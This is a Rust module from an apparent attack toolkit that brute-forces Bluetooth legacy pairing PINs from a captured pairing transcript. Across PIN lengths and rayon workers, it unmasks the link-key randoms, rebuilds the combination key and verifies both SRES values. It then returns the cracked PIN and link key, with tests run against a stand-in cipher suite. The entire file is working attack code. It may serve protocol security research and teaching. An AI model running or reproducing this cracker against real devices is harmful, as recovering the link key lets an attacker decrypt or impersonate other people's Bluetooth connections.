//! PIN brute force over a captured pairing.
//!
//! For each candidate PIN: K_init from the PIN, unmask the two LK_RAND
//! values, rebuild K_AB, recompute both SRES values and accept only when
//! both match the transcript. Candidates run length-major, ascending within
//! a length, so "first accepting PIN" is well defined. Work is split across
//! rayon workers chunk by chunk and reduced in enumeration order, so the
//! answer does not depend on the worker count.

use rayon::prelude::*;
use thiserror::Error;

use super::suite::{xor, CipherSuite, Key128, Pin};
use super::transcript::PairingTranscript;
use crate::baseband::{BdAddr, PairingKind};

const CHUNK: u32 = 1 << 14;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CrackOptions {
    pub min_digits: usize,
    pub max_digits: usize,
    /// Keep enumerating after the first hit to count further accepting PINs.
    pub scan_all: bool,
}

impl Default for CrackOptions {
    fn default() -> Self {
        Self {
            min_digits: Pin::MIN_DIGITS,
            max_digits: Pin::MAX_DIGITS,
            scan_all: false,
        }
    }
}

impl CrackOptions {
    pub fn up_to(max_digits: usize) -> Self {
        Self {
            max_digits,
            ..Self::default()
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrackReport {
    pub pin: Pin,
    pub k_ab: Key128,
    /// Candidates evaluated up to and including the answer, or the whole
    /// space in `scan_all` mode.
    pub tested: u64,
    /// Other PINs that also pass both checks. Only counted in `scan_all` mode.
    pub extra_accepts: Option<u64>,
    /// Candidates among those tested matching exactly one SRES.
    pub single_sres_matches: u64,
}

#[derive(Debug, Error, PartialEq, Eq)]
pub enum CrackError {
    #[error("transcript is missing packets {0:?}")]
    IncompleteTranscript(Vec<u8>),
    #[error("digit range {min}..={max} is outside 4..=6")]
    DigitRange { min: usize, max: usize },
    #[error("no PIN of {min}..={max} digits matches ({tested} tested)")]
    NotFound { min: usize, max: usize, tested: u64 },
}

struct Inputs {
    in_rand: Key128,
    masked_a: Key128,
    masked_b: Key128,
    au_rand_a: Key128,
    au_rand_b: Key128,
    sres_b: u32,
    sres_a: u32,
}

impl Inputs {
    fn from(t: &PairingTranscript) -> Result<Self, CrackError> {
        let missing = t.missing();
        let (Some(in_rand), Some(masked_a), Some(masked_b), Some(au_rand_a), Some(au_rand_b)) = (
            t.key(PairingKind::InRand),
            t.key(PairingKind::CombKeyA),
            t.key(PairingKind::CombKeyB),
            t.key(PairingKind::AuRandA),
            t.key(PairingKind::AuRandB),
        ) else {
            return Err(CrackError::IncompleteTranscript(
                missing.iter().map(|k| k.index()).collect(),
            ));
        };
        let (Some(sres_b), Some(sres_a)) = (t.sres(PairingKind::SresB), t.sres(PairingKind::SresA)) else {
            return Err(CrackError::IncompleteTranscript(
                missing.iter().map(|k| k.index()).collect(),
            ));
        };
        Ok(Self {
            in_rand,
            masked_a,
            masked_b,
            au_rand_a,
            au_rand_b,
            sres_b,
            sres_a,
        })
    }
}

#[derive(Clone, Copy)]
enum Verdict {
    Reject,
    Single,
    Accept(Key128),
}

fn check<S: CipherSuite + ?Sized>(suite: &S, inp: &Inputs, pin: &Pin, addr_a: BdAddr, addr_b: BdAddr) -> Verdict {
    let k_init = suite.e22(pin, addr_a, &inp.in_rand);
    let lk_a = xor(&inp.masked_a, &k_init);
    let lk_b = xor(&inp.masked_b, &k_init);
    let k_ab = suite.combine(&suite.e21(&lk_a, addr_a), &suite.e21(&lk_b, addr_b));
    let b_ok = suite.sres(&k_ab, addr_b, &inp.au_rand_a) == inp.sres_b;
    let a_ok = suite.sres(&k_ab, addr_a, &inp.au_rand_b) == inp.sres_a;
    match (b_ok, a_ok) {
        (true, true) => Verdict::Accept(k_ab),
        (false, false) => Verdict::Reject,
        _ => Verdict::Single,
    }
}

pub fn crack_pin<S: CipherSuite + ?Sized>(
    suite: &S,
    transcript: &PairingTranscript,
    addr_a: BdAddr,
    addr_b: BdAddr,
    opts: CrackOptions,
) -> Result<CrackReport, CrackError> {
    let (min, max) = (opts.min_digits, opts.max_digits);
    if min < Pin::MIN_DIGITS || max > Pin::MAX_DIGITS || min > max {
        return Err(CrackError::DigitRange { min, max });
    }
    let inp = Inputs::from(transcript)?;
    let mut tested = 0u64;
    let mut singles = 0u64;
    let mut found: Option<(Pin, Key128)> = None;
    let mut extra = 0u64;

    for digits in min..=max {
        let space = 10u32.pow(digits as u32);
        let mut start = 0u32;
        while start < space {
            let end = (start + CHUNK).min(space);
            let verdicts: Vec<Verdict> = (start..end)
                .into_par_iter()
                .map(|v| {
                    let pin = Pin::from_value(v, digits).expect("value within space");
                    check(suite, &inp, &pin, addr_a, addr_b)
                })
                .collect();
            for (v, verdict) in (start..end).zip(verdicts) {
                tested += 1;
                match verdict {
                    Verdict::Reject => {}
                    Verdict::Single => singles += 1,
                    Verdict::Accept(k) => {
                        if found.is_none() {
                            found = Some((Pin::from_value(v, digits).expect("in range"), k));
                            if !opts.scan_all {
                                return Ok(CrackReport {
                                    pin: found.unwrap().0,
                                    k_ab: k,
                                    tested,
                                    extra_accepts: None,
                                    single_sres_matches: singles,
                                });
                            }
                        } else {
                            extra += 1;
                        }
                    }
                }
            }
            start = end;
        }
    }
    match found {
        Some((pin, k_ab)) => Ok(CrackReport {
            pin,
            k_ab,
            tested,
            extra_accepts: Some(extra),
            single_sres_matches: singles,
        }),
        None => Err(CrackError::NotFound { min, max, tested }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::{ReferenceStandIn, SessionRandoms};

    fn setup(pin: &str) -> (PairingTranscript, BdAddr, BdAddr, Key128) {
        let a = BdAddr::new(0, 0xfb, 0xfd7fd1);
        let b = BdAddr::new(0, 0x3c, 0x0a1b2c);
        let r = SessionRandoms {
            in_rand: [0x11; 16],
            lk_rand_a: [0x22; 16],
            lk_rand_b: [0x33; 16],
            au_rand_a: [0x44; 16],
            au_rand_b: [0x55; 16],
        };
        let (t, keys) = PairingTranscript::from_session(&ReferenceStandIn, &Pin::new(pin).unwrap(), a, b, &r);
        (t, a, b, keys.k_ab)
    }

    #[test]
    fn recovers_four_digits() {
        let (t, a, b, k) = setup("1234");
        let r = crack_pin(&ReferenceStandIn, &t, a, b, CrackOptions::up_to(4)).unwrap();
        assert_eq!(r.pin.as_str(), "1234");
        assert_eq!(r.k_ab, k);
        assert_eq!(r.tested, 1235);
    }

    #[test]
    fn leading_zeros_and_longer_pins() {
        let (t, a, b, _) = setup("00042");
        let r = crack_pin(&ReferenceStandIn, &t, a, b, CrackOptions::up_to(5)).unwrap();
        assert_eq!(r.pin.as_str(), "00042");
        assert_eq!(r.tested, 10_000 + 43);
    }

    #[test]
    fn pin_longer_than_search_is_not_found() {
        let (t, a, b, _) = setup("12345");
        assert_eq!(
            crack_pin(&ReferenceStandIn, &t, a, b, CrackOptions::up_to(4)),
            Err(CrackError::NotFound {
                min: 4,
                max: 4,
                tested: 10_000
            })
        );
    }

    #[test]
    fn missing_packet() {
        let (mut t, a, b, _) = setup("1234");
        t.remove(PairingKind::SresB);
        assert_eq!(
            crack_pin(&ReferenceStandIn, &t, a, b, CrackOptions::default()),
            Err(CrackError::IncompleteTranscript(vec![5]))
        );
    }

    #[test]
    fn scan_all_counts_extras() {
        let (t, a, b, _) = setup("9999");
        let opts = CrackOptions {
            scan_all: true,
            ..CrackOptions::up_to(4)
        };
        let r = crack_pin(&ReferenceStandIn, &t, a, b, opts).unwrap();
        assert_eq!(r.pin.as_str(), "9999");
        assert_eq!(r.extra_accepts, Some(0));
        assert_eq!(r.tested, 10_000);
    }

    #[test]
    fn digit_range_checked() {
        let (t, a, b, _) = setup("1234");
        assert!(matches!(
            crack_pin(&ReferenceStandIn, &t, a, b, CrackOptions::up_to(7)),
            Err(CrackError::DigitRange { .. })
        ));
    }
}
